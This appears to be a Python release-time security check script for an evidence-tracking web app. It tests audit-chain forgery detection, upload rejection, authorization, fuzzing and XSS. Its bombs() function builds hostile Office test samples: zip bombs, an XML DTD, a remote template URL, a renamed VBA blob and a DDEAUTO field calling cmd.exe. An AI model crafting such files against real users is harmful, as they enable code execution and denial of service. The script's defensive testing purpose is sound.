"""Security checks a reviewer reruns before a release; prints their figures.

    .venv/bin/python scripts/security/run.py

1. forged chain: six audited changes in a fresh SQLite database, then the pen test's rewrite (an event
   changed, one deleted, every later hash recomputed, with plain SHA-256 and with a key of the
   intruder's own) and a truncated tail against a noted head: `tracker audit verify` must exit 1.
2. upload bombs: each crafted Office file is checked as an evidence upload while a second client asks
   a waitress-served page every 50 ms: each must be refused within 2 s, the other client's p95 < 1 s.
3. the authorization matrix and the fuzzed posts: their pytest files, with the pass counts; 200
   generated posts per POST route of the app (tests/security/test_fuzzed_posts.py), none 5xx.
   Script payloads in every writable field, every page viewed in Chromium: none runs
   (tests/security/test_xss_in_browser.py).
4. bandit (0 medium or high findings) and pip-audit: `scripts/security/static`.
"""

from __future__ import annotations

import io
import os
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))
os.environ.setdefault("TRACKER_AUDIT_KEY", "security-check-key")
FUZZ_EXAMPLES = 200  # hypothesis examples per POST route (the test suite runs 20)


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


OFFICE = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


def bombs() -> dict[str, bytes]:
    return {
        "100 MiB in 500 small members": zip_of(
            {**OFFICE, **{f"word/p{i}.xml": b" " * 204800 for i in range(500)}}
        ),
        "one 60 MiB member": zip_of({**OFFICE, "word/media/big.bin": b"\0" * (60 << 20)}),
        "2,000 members": zip_of({**OFFICE, **{f"word/p{i}.xml": b"<a/>" for i in range(2000)}}),
        "DTD in UTF-16": zip_of(
            {**OFFICE, "word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DocType a>'.encode("utf-16")}
        ),
        "remote template": zip_of(
            {
                **OFFICE,
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.1/t.dotm" TargetMode="External"/></Relationships>',
            }
        ),
        "VBA renamed": zip_of(
            {**OFFICE, "word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512}
        ),
        "DDE field": zip_of(
            {
                **OFFICE,
                "word/document.xml": b'<w:document><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:document>',
            }
        ),
    }


def check_forged_chain(workdir: Path) -> tuple[int, int]:
    from tracker.services.users import add_user
    from tracker.store import audit
    from tracker.store.db import db, init_database
    from tracker.store.migrations import upgrade
    from tracker.store.models import AuditEvent

    caught = cases = 0
    env = {**os.environ, "TRACKER_INSTANCE": str(workdir / "instance")}
    for case, key in (("sha256", None), ("own key", b"intruder"), ("truncated", None)):
        url = f"sqlite:///{workdir}/{case.replace(' ', '-')}.db"
        init_database(url)
        upgrade()
        for i in range(6):
            add_user(f"inspector{i}", "inspector", password="a long enough password", actor="admin")
        noted = audit.head_text()
        events = list(AuditEvent.select().order_by(AuditEvent.seq))
        with db.atomic():
            if case == "truncated":
                AuditEvent.delete().where(AuditEvent.seq >= 5).execute()
            else:
                AuditEvent.delete().where(AuditEvent.seq >= 3).execute()
                prev = events[1].hash
                tail = [e for e in events[2:] if e.seq != 5]
                tail[0].actor = "intruder"
                for n, ev in enumerate(tail, start=3):
                    digest = audit._digest(
                        n, ev.at, ev.actor, ev.action, ev.entity, ev.entity_id, ev.before, ev.after, prev, key
                    )
                    AuditEvent.insert(
                        seq=n,
                        at=ev.at,
                        actor=ev.actor,
                        action=ev.action,
                        entity=ev.entity,
                        entity_id=ev.entity_id,
                        before=ev.before,
                        after=ev.after,
                        prev_hash=prev,
                        hash=digest,
                        key_id=ev.key_id if key is None else audit.key_id(key),
                    ).execute()
                    prev = digest
        db.close()
        args = ["audit", "verify", "--head", noted] if case == "truncated" else ["audit", "verify"]
        result = subprocess.run(
            [sys.executable, "-m", "tracker.cli", *args],
            env={**env, "TRACKER_DATABASE_URL": url},
            capture_output=True,
            text=True,
        )
        cases += 1
        caught += result.returncode == 1
        print(f"  forged chain ({case}): exit {result.returncode} {result.stderr.strip()[:90]}")
    return caught, cases


def check_bombs(workdir: Path) -> tuple[list[float], list[float], int]:
    from waitress import wasyncore
    from waitress.server import create_server

    from tracker.services.evidence import EvidenceError, check_upload
    from tracker.store.migrations import upgrade
    from tracker.web import create_app

    url = f"sqlite:///{workdir}/served.db"
    app = create_app({"DATABASE_URL": url, "SECRET_KEY": "x"})
    upgrade()
    sockets: dict = {}
    server = create_server(app, map=sockets, host="127.0.0.1", port=0, threads=4)
    stop = threading.Event()
    threading.Thread(
        target=lambda: [wasyncore.loop(timeout=0.05, map=sockets, count=1) for _ in iter(stop.is_set, True)],
        daemon=True,
    ).start()
    base = f"http://127.0.0.1:{server.effective_port}"
    latencies: list[float] = []

    def second_client():
        while not stop.is_set():
            started = time.perf_counter()
            with urllib.request.urlopen(base + "/login", timeout=10) as response:
                response.read()
            latencies.append(time.perf_counter() - started)
            time.sleep(0.05)

    client = threading.Thread(target=second_client, daemon=True)
    client.start()
    refused_in, accepted = [], 0
    for name, data in bombs().items():
        started = time.perf_counter()
        try:
            check_upload(name + ".docx", data)
            accepted += 1
            verdict = "ACCEPTED"
        except EvidenceError as exc:
            verdict = str(exc)[:60]
        refused_in.append(time.perf_counter() - started)
        print(f"  bomb {name!r} ({len(data) // 1024} KB): {refused_in[-1]:.2f} s — {verdict}")
    time.sleep(0.5)
    stop.set()
    client.join(timeout=10)
    server.close()
    return refused_in, latencies, accepted


def run_pytest(paths: list[str], **env: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", *paths],
        cwd=ROOT,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
    )
    return (result.stdout.strip().splitlines() or ["?"])[-1]


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        print("1. forged audit chains")
        caught, cases = check_forged_chain(work)
        print("2. upload bombs while a second client browses")
        refused_in, latencies, accepted = check_bombs(work)
    p95 = statistics.quantiles(latencies, n=20)[-1] if len(latencies) >= 2 else float("nan")
    print("3. authorization matrix, fuzzed posts, XSS-free rendering (pytest)")
    matrix = run_pytest(["tests/web/test_access_matrix.py"])
    fuzz = run_pytest(["tests/security/test_no_5xx.py"])
    generated = run_pytest(["tests/security/test_fuzzed_posts.py"], TRACKER_FUZZ_EXAMPLES=str(FUZZ_EXAMPLES))
    print(f"  access matrix: {matrix}")
    print(f"  fuzzed posts: {fuzz}")
    print(f"  generated posts, {FUZZ_EXAMPLES} per POST route, none 5xx: {generated}")
    xss = run_pytest(["tests/security/test_xss_in_browser.py"], TRACKER_REQUIRE_BROWSER="1")
    print(f"  XSS payloads in every writable field, every page in Chromium, none ran: {xss}")
    print("4. bandit and pip-audit")
    static = subprocess.run([str(ROOT / "scripts/security/static")], cwd=ROOT, capture_output=True, text=True)
    figures = [line for line in static.stdout.splitlines() if line.startswith(("bandit", "pip-audit"))]
    print("\n".join(f"  {line}" for line in static.stdout.splitlines() if not line.startswith("==")))
    print()
    print(f"forged chains caught:       {caught}/{cases}")
    print(
        f"bombs refused:              {len(refused_in) - accepted}/{len(refused_in)}, slowest {max(refused_in):.2f} s"
    )
    print(f"second client during bombs: {len(latencies)} requests, p95 {p95 * 1000:.0f} ms")
    for line in figures:
        print(line)
    ok = caught == cases and accepted == 0 and max(refused_in) < 2 and p95 < 1 and static.returncode == 0
    ok = ok and all(
        "passed" in r and "failed" not in r and "error" not in r for r in (matrix, fuzz, generated, xss)
    )
    print("RESULT:", "pass" if ok else "FAIL")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
